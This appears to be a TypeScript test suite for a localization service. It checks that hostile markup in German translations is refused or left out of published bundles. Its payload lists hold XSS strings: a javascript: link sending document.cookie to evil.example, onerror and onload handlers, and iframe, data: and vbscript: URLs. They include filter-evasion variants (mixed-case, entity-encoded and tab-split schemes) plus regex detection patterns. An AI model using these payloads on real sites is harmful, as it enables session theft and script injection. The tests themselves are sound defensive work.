// Markup that would run in a customer's app never ships (packages/core/src/markup.ts, one rule for every path): a person's
// save through the editor is refused, an engine's answer fails its fill, an imported value is stored verbatim but
// the sync answer names it and the publish leaves it out (`markupRejected`). Each hostile payload is walked through
// those paths, and neither the published bundle nor a pulled file carries it. The fill counts tags branch by branch.
import test from 'ava';
import { translate } from '../../../packages/client/src/index.js';
import {
  openAiEnv,
  requestPayload,
  startFakeOpenAI,
  translateAll,
  type FakeOpenAI,
} from '../../helpers/fake-openai.js';
import {
  createTestProject,
  pullText,
  startTestService,
  type TestProject,
  type TestService,
} from '../../helpers/service.js';
import { errorOf, pollJob } from '../../helpers/typed.js';

let svc: TestService;
let fake: FakeOpenAI;
test.before(async () => {
  fake = await startFakeOpenAI();
  svc = await startTestService(openAiEnv(fake));
});
test.after.always(async () => {
  await svc?.stop();
  await fake?.close();
});

const SOURCE = 'By continuing you agree to our <a href="/terms">Terms of Service</a> and <b>Privacy Policy</b>.';
const SAFE_DE =
  'Wenn du fortfährst, stimmst du unseren <a href="/terms">Nutzungsbedingungen</a> und der <b>Datenschutzerklärung</b> zu.';

/** German values of SOURCE, each carrying markup an app would run or follow; `mark` is what must never ship. */
const HOSTILE: Array<{ name: string; value: string; mark: string }> = [
  {
    name: 'javascript: href',
    value: `Weiter: <a href="javascript:fetch('https://evil.example/?c='+document.cookie)">Nutzungsbedingungen</a> und <b>Datenschutzerklärung</b>.`,
    mark: 'javascript:',
  },
  {
    name: 'on* attribute',
    value: 'Weiter: <a href="/terms">Nutzungsbedingungen</a> und <b onmouseover="alert(1)">Datenschutzerklärung</b>.',
    mark: 'onmouseover',
  },
  {
    name: 'foreign https href',
    value: 'Weiter: <a href="https://evil.example/phish">Nutzungsbedingungen</a> und <b>Datenschutzerklärung</b>.',
    mark: 'evil.example',
  },
  {
    name: 'new <script>',
    value: 'Weiter: <a href="/terms">AGB</a> und <b>Datenschutz</b>.<script>alert(1)</script>',
    mark: '<script',
  },
  {
    name: 'new <img onerror>',
    value: 'Weiter: <a href="/terms">AGB</a> und <b>Datenschutz</b>.<img src=x onerror=alert(1)>',
    mark: 'onerror',
  },
  {
    name: 'new <img/src/onerror> without spaces',
    value: 'Weiter: <a href="/terms">AGB</a> und <b>Datenschutz</b>.<img/src/onerror=alert(1)>',
    mark: 'onerror',
  },
  {
    name: 'new <svg onload>',
    value: 'Weiter: <a href="/terms">AGB</a> und <b>Datenschutz</b>.<svg onload=alert(1)>',
    mark: 'onload',
  },
  {
    name: 'new <svg/onload> without spaces',
    value: 'Weiter: <a href="/terms">AGB</a> und <b>Datenschutz</b>.<svg/onload=alert(1)>',
    mark: 'onload',
  },
  {
    name: 'new <iframe>',
    value: 'Weiter: <a href="/terms">AGB</a> und <b>Datenschutz</b>.<iframe src="https://evil.example"></iframe>',
    mark: '<iframe',
  },
  {
    name: 'data: URL',
    value:
      'Weiter: <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">AGB</a> und <b>Datenschutz</b>.',
    mark: 'data:text/html',
  },
  {
    name: 'vbscript: URL',
    value: 'Weiter: <a href="vbscript:msgbox(1)">AGB</a> und <b>Datenschutz</b>.',
    mark: 'vbscript:',
  },
  {
    name: 'mixed-case scheme',
    value: 'Weiter: <A HREF="JaVaScRiPt:alert(1)">AGB</A> und <b>Datenschutz</b>.',
    mark: 'JaVaScRiPt:',
  },
  {
    name: 'entity-encoded scheme',
    value: 'Weiter: <a href="jav&#x61;script:alert(1)">AGB</a> und <b>Datenschutz</b>.',
    mark: 'jav&#x61;script:',
  },
  {
    name: 'scheme split by a tab',
    value: 'Weiter: <a href="java\tscript:alert(1)">AGB</a> und <b>Datenschutz</b>.',
    mark: 'java\tscript:',
  },
];

const setCell = (p: TestProject, key: string, value: string) =>
  svc.admin.PUT('/projects/{projectId}/keys/{key}/translations/{lang}', {
    params: { path: { projectId: p.projectId, key, lang: 'de' } },
    body: { value, status: 'approved' },
  });

/** Publishes (`incompleteMode: skip`) and returns the version with everything an app or a build gets in `de`. */
async function publishAndRead(p: TestProject) {
  const r = await p.client.POST('/projects/{projectId}/publish', {
    params: { path: { projectId: p.projectId } },
    body: { incompleteMode: 'skip' },
  });
  if (!r.data) throw new Error(JSON.stringify(r.error));
  const manifest = (await (await fetch(`${svc.deliveryUrl}/projects/${p.projectId}/manifest`)).json()) as {
    bundles: Record<string, { url: string }>;
  };
  const bundleUrl = new URL(manifest.bundles.de.url, `${svc.deliveryUrl}/projects/${p.projectId}/manifest`);
  const bundle = await (await fetch(bundleUrl)).text();
  const files = await Promise.all(
    ['json', 'nested_json', 'android_xml', 'po'].map((f) => pullText(svc, p, r.data.versionId, f, 'de')),
  );
  return { published: r.data, shipped: [bundle, ...files].join('\n') };
}

const keyOf = (i: number) => `legal.hostile${i}`;
// One source per key: the fill translates each distinct source once, and gettext's msgid must not collide.
const sourceOf = (i: number) => `${SOURCE} (${i})`;

test.serial('the editor refuses every hostile value; what it stored and what ships carry none of them', async (t) => {
  const p = await createTestProject(svc, { languages: [{ code: 'de', fillMode: 'manual' }] });
  await translate(p.client, p.projectId, {
    units: HOSTILE.map((_, i) => ({ key: keyOf(i), source: sourceOf(i) })),
  });
  for (const [i, h] of HOSTILE.entries()) {
    const check = await svc.admin.POST('/projects/{projectId}/keys/{key}/check', {
      params: { path: { projectId: p.projectId, key: keyOf(i) } },
      body: { lang: 'de', value: h.value },
    });
    t.false(check.data?.ok, `${h.name}: checked`);
    t.regex(check.data?.gate.markup ?? '', /unsafe markup/, h.name);
    const r = await setCell(p, keyOf(i), h.value);
    t.is(r.response.status, 400, `${h.name}: saved`);
    t.is(errorOf(r)?.error, 'invalid_argument');
    t.regex(errorOf(r)?.message ?? '', /unsafe markup/);
  }
  // The safe translation of the same source is taken.
  t.is((await setCell(p, keyOf(0), SAFE_DE)).response.status, 200);
  const { published, shipped } = await publishAndRead(p);
  t.is(published.markupRejectedTotal, 0);
  t.true(shipped.includes('Nutzungsbedingungen'));
  for (const h of HOSTILE) t.false(shipped.includes(h.mark), h.name);
});

function xcstrings(langs: Record<string, Record<string, string>>): string {
  const strings: Record<string, unknown> = {};
  for (const [key, byLang] of Object.entries(langs)) {
    strings[key] = {
      localizations: Object.fromEntries(
        Object.entries(byLang).map(([l, v]) => [l, { stringUnit: { state: 'translated', value: v } }]),
      ),
    };
  }
  return JSON.stringify({ sourceLanguage: 'en', strings, version: '1.0' });
}

test.serial('a sync stores hostile values verbatim, names them, and the publish refuses every one', async (t) => {
  const p = await createTestProject(svc, { languages: [{ code: 'de', fillMode: 'manual' }] });
  const file = xcstrings({
    ...Object.fromEntries(HOSTILE.map((h, i) => [keyOf(i), { en: sourceOf(i), de: h.value }])),
    'legal.safe': { en: SOURCE, de: SAFE_DE },
    // An imported translation may add plain formatting the source lacks: the team's own choice, nothing runs.
    'legal.bold': { en: 'Read the terms', de: 'Lies die <b>Bedingungen</b>' },
  });
  const r = await p.client.POST('/projects/{projectId}/sync', {
    params: { path: { projectId: p.projectId } },
    body: { contentBase64: Buffer.from(file).toString('base64'), fileName: 'Localizable.xcstrings' },
  });
  t.is(r.response.status, 200, JSON.stringify(r.error));
  const unsafe = HOSTILE.map((_, i) => `${keyOf(i)} [de]`).sort();
  t.deepEqual([...(r.data?.markupUnsafe ?? [])].sort(), unsafe);
  t.is(r.data?.markupUnsafeTotal, HOSTILE.length);
  // Verbatim: the stored value is the file's.
  const stored = await svc.admin.GET('/projects/{projectId}/keys/{key}', {
    params: { path: { projectId: p.projectId, key: keyOf(0) } },
  });
  const cell = stored.data?.cells.find((c) => c.lang === 'de');
  t.is(cell?.value, HOSTILE[0].value);
  t.regex(cell?.gate.markup ?? '', /unsafe markup/);
  const { published, shipped } = await publishAndRead(p);
  t.deepEqual([...published.markupRejected].sort(), unsafe);
  t.is(published.markupRejectedTotal, HOSTILE.length);
  t.true(shipped.includes('Datenschutzerklärung'));
  t.true(shipped.includes('Lies die'));
  for (const h of HOSTILE) t.false(shipped.includes(h.mark), h.name);
});

test.serial('an engine answering with hostile markup fails the fill; nothing of it is stored or shipped', async (t) => {
  const p = await createTestProject(svc, { languages: [{ code: 'de' }] });
  const byKey = new Map(HOSTILE.map((h, i) => [keyOf(i), h.value]));
  fake.setHandler(translateAll((item) => byKey.get(item.key) ?? HOSTILE[0].value));
  const r = await translate(p.client, p.projectId, {
    units: HOSTILE.map((_, i) => ({ key: keyOf(i), source: sourceOf(i) })),
  });
  await svc.admin.POST('/jobs/run-due', { body: {} });
  const poll = (await pollJob(p.client, p.projectId, r.data!.trackingToken!)).data!;
  t.is(poll.summary.translated, 0);
  t.is(poll.summary.failed, HOSTILE.length);
  for (const [i] of HOSTILE.entries()) {
    const k = await svc.admin.GET('/projects/{projectId}/keys/{key}', {
      params: { path: { projectId: p.projectId, key: keyOf(i) } },
    });
    t.falsy(k.data?.cells.find((c) => c.lang === 'de')?.value);
  }
  const { shipped } = await publishAndRead(p);
  for (const h of HOSTILE) t.false(shipped.includes(h.mark), h.name);
});

test.serial('a plural with markup fills in every language: its tags are counted branch by branch', async (t) => {
  const p = await createTestProject(svc, {
    languages: ['ar', 'fr', 'ja', 'pl'].map((code) => ({ code })),
  });
  fake.setHandler(
    translateAll((_item, req) => {
      const { targetLanguage, pluralCategories } = requestPayload(req);
      const forms = pluralCategories.map((c) => `${c} {<b>{count}</b> ${targetLanguage}-${c}}`).join(' ');
      return `{count, plural, ${forms}}`;
    }),
  );
  const r = await translate(p.client, p.projectId, {
    units: [{ key: 'comments', forms: { one: '<b>{count}</b> comment', other: '<b>{count}</b> comments' } }],
  });
  await svc.admin.POST('/jobs/run-due', { body: {} });
  const poll = (await pollJob(p.client, p.projectId, r.data!.trackingToken!)).data!;
  t.like(poll, { status: 'done', summary: { total: 4, translated: 4, failed: 0 } });
  // The publish gate holds the stored values to the same rule and accepts them.
  const v = await p.client.POST('/projects/{projectId}/publish', {
    params: { path: { projectId: p.projectId } },
    body: { incompleteMode: 'skip' },
  });
  t.like(v.data, { icuRejectedTotal: 0, markupRejectedTotal: 0 });
});

test.serial('a link may point to an origin the project allows; any other change of URL stays refused', async (t) => {
  const p = await createTestProject(svc, { languages: [{ code: 'de', fillMode: 'manual' }] });
  await translate(p.client, p.projectId, { units: [{ key: 'legal.terms', source: SOURCE }] });
  const help =
    'Weiter: <a href="https://help.example.com/de/agb">Nutzungsbedingungen</a> und <b>Datenschutzerklärung</b>.';
  t.is((await setCell(p, 'legal.terms', help)).response.status, 400, 'no origin is allowed yet');
  const bad = await svc.admin.PATCH('/projects/{projectId}', {
    params: { path: { projectId: p.projectId } },
    body: { markupOrigins: ['https://help.example.com/path'] },
  });
  t.is(errorOf(bad)?.error, 'invalid_argument');
  const set = await svc.admin.PATCH('/projects/{projectId}', {
    params: { path: { projectId: p.projectId } },
    body: { markupOrigins: ['HTTPS://Help.Example.com'] },
  });
  t.deepEqual(set.data?.markupOrigins, ['https://help.example.com']);
  t.is((await setCell(p, 'legal.terms', help)).response.status, 200);
  // Another host, a script URL or a handler stay refused whatever the project allows.
  t.is(
    (await setCell(p, 'legal.terms', help.replace('help.example.com', 'help.example.com.evil.example'))).response
      .status,
    400,
  );
  t.is((await setCell(p, 'legal.terms', help.replace('<b>', '<b onclick="x()">'))).response.status, 400);
  const { published, shipped } = await publishAndRead(p);
  t.is(published.markupRejectedTotal, 0);
  t.true(shipped.includes('https://help.example.com/de/agb'));
});

/** What an engine talked into it might add to a content block's protected message (`…<x0>…</x0>…`). */
const CONTENT_ANSWERS: Array<(src: string) => string> = [
  (s) => `${s} <script>alert(1)</script>`,
  (s) => `${s} <img src=x onerror=alert(1)>`,
  (s) => `${s} <img/src/onerror=alert(1)>`,
  (s) => `${s} <svg/onload=alert(1)>`,
  (s) => `${s} <iframe src="https://evil.example"></iframe>`,
  (s) => s.replace('<x0>', '<x0 onmouseover="alert(1)">'),
  (s) => s.replace('<x0>', '<x0 href="javascript:alert(1)">'),
  (s) => `${s} <a href="jav&#x61;script:alert(1)">x</a>`,
  (s) => `${s} <A HREF="JaVaScRiPt:alert(1)">x</A>`,
  (s) => `${s} <a href="data:text/html,<script>alert(1)</script>">x</a>`,
  (s) => `${s} <a href="vbscript:msgbox(1)">x</a>`,
  (s) => `${s} <a href="https://evil.example/phish">x</a>`,
];
const CONTENT_MARKS = [
  /<script/i,
  /onerror/i,
  /onload/i,
  /onmouseover/i,
  /<iframe/i,
  /javascript:/i,
  /jav&#x61;script/i,
  /data:text/i,
  /vbscript:/i,
  /evil\.example/i,
];

test.serial(
  'content documents: an engine answering with hostile markup never reaches a published document',
  async (t) => {
    const p = await createTestProject(svc, { languages: [{ code: 'de' }], contentEnabled: true });
    let n = 0;
    // The title is translated faithfully, so each document has a German version to publish.
    fake.setHandler(
      translateAll((item) =>
        item.source === 'Terms' ? 'Bedingungen' : CONTENT_ANSWERS[n++ % CONTENT_ANSWERS.length](item.source),
      ),
    );
    const docs = {
      page: {
        format: 'html' as const,
        text: CONTENT_ANSWERS.map((_, i) => `<p>Part ${i}: ${SOURCE}</p>`).join('\n'),
      },
      notes: {
        format: 'markdown' as const,
        text: CONTENT_ANSWERS.map(
          (_, i) => `Part ${i}: by continuing you agree to our [Terms](/terms) and **Privacy Policy**.`,
        ).join('\n\n'),
      },
    };
    for (const [docId, d] of Object.entries(docs)) {
      const put = await p.client.PUT('/projects/{projectId}/content/{docId}', {
        params: { path: { projectId: p.projectId, docId } },
        body: { title: 'Terms', ...d },
      });
      t.true(put.response.ok, JSON.stringify(put.error));
      const run = await p.client.POST('/projects/{projectId}/content/{docId}/run', {
        params: { path: { projectId: p.projectId, docId } },
        body: {},
      });
      t.true(run.response.ok, JSON.stringify(run.error));
    }
    await svc.admin.POST('/jobs/run-due', { body: {} });
    t.true(n >= CONTENT_ANSWERS.length, 'the engine answered every payload');
    await svc.admin.POST('/projects/{projectId}/content/publish', {
      params: { path: { projectId: p.projectId } },
      body: {},
    });
    for (const docId of Object.keys(docs)) {
      const r = await p.client.GET('/projects/{projectId}/content/{docId}', {
        params: { path: { projectId: p.projectId, docId }, query: { lang: 'de' } },
      });
      const shipped = JSON.stringify(r.data ?? {});
      // Every block's answer was refused: the document ships its source, never a block of the answers.
      t.is(r.data?.content.de?.source, 'fallback');
      for (const mark of CONTENT_MARKS) t.notRegex(shipped, mark, `${docId}: ${mark}`);
    }
  },
);

test.serial('a restore copies a version verbatim and warns of markup today’s gates would refuse', async (t) => {
  const p = await createTestProject(svc, { languages: [{ code: 'de', fillMode: 'manual' }] });
  await translate(p.client, p.projectId, { units: [{ key: 'legal.terms', source: SOURCE }] });
  const patch = (markupOrigins: string[]) =>
    svc.admin.PATCH('/projects/{projectId}', {
      params: { path: { projectId: p.projectId } },
      body: { markupOrigins },
    });
  await patch(['https://help.example.com']);
  const help =
    'Weiter: <a href="https://help.example.com/de/agb">Nutzungsbedingungen</a> und <b>Datenschutzerklärung</b>.';
  t.is((await setCell(p, 'legal.terms', help)).response.status, 200);
  const { published } = await publishAndRead(p);
  t.is(published.markupRejectedTotal, 0);
  // The project no longer allows the origin: the next publish refuses the cell, a restore copies it and says so.
  await patch([]);
  const again = await p.client.POST('/projects/{projectId}/publish', {
    params: { path: { projectId: p.projectId } },
    body: { incompleteMode: 'skip' },
  });
  t.deepEqual(again.data?.markupRejected, ['legal.terms [de]']);
  const restored = await p.client.POST('/projects/{projectId}/versions/{versionId}/restore', {
    params: { path: { projectId: p.projectId, versionId: published.versionId } },
  });
  t.is(restored.response.status, 201, JSON.stringify(restored.error));
  t.deepEqual(restored.data?.markupRejected, ['legal.terms [de]']);
  t.is(restored.data?.markupRejectedTotal, 1);
});
